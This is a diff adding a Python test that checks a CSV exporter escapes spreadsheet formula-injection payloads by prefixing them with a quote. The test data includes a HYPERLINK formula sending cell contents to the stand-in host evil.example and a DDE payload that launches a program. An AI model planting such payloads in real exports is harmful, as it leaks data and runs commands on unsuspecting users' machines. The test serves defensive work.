@@ -33,3 +33,17 @@ def test_csv_orphaned_article_falls_back_to_the_note():
     note = make_note(1, article_id="dead" * 4, article_title="Gone", article_path="/g.txt")
     [row] = list(csv.DictReader(io.StringIO(to_csv([note], {}), newline="")))
     assert (row["article_title"], row["article_path"]) == ("Gone", "/g.txt")
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text():
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
+               "-2+3", "@SUM(A1:A9)", "\tlead", "\rlead"]
+    notes = [make_note(i, exact=cell, body=cell, tags=[cell.strip() or "x"],
+                       article_title=cell, article_id="dead" * 4) for i, cell in enumerate(hostile)]
+    rows = list(csv.DictReader(io.StringIO(to_csv(notes, {}), newline="")))
+    for row, cell in zip(rows, hostile, strict=True):
+        assert row["quote"] == row["note"] == row["article_title"] == "'" + cell
+        assert not row["tags"].startswith(("=", "+", "-", "@"))
+    plain = make_note(9, exact="Putin said = nothing", body="a - b", article_id="dead" * 4)
+    [row] = list(csv.DictReader(io.StringIO(to_csv([plain], {}), newline="")))
+    assert (row["quote"], row["note"]) == ("Putin said = nothing", "a - b")  # only a leading sign
